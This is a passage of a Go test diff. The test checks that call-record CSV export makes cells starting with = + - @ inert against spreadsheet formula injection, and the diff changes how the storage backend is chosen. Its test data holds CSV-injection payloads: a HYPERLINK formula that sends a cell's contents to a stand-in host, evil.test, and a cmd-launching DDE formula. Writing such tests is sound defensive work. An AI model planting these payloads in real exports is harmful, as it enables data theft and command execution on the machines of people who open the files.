@@ -17,7 +17,8 @@ import (
 // attacker-chosen; in the CSV a cell starting with = + - @ must not be a
 // spreadsheet formula (OWASP CSV injection: prefix with ').
 func TestCDRCSVFormulaInert(t *testing.T) {
-	storetest.Each(t, adminPassword, func(t *testing.T, s *sqlstore.Store) {
+	// The backend XC5_TEST_STORE chooses: CI's default pass runs SQLite, its postgres pass PostgreSQL, each once.
+	storetest.EachChosen(t, adminPassword, func(t *testing.T, s *sqlstore.Store) {
 		e := envOn(t, s, api.Options{})
 		acct := str(t, e.createAccount("cdr.test", ""), "guid")
 		evil := []string{`=HYPERLINK("http://evil.test/?x="&A1,"call me")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"}
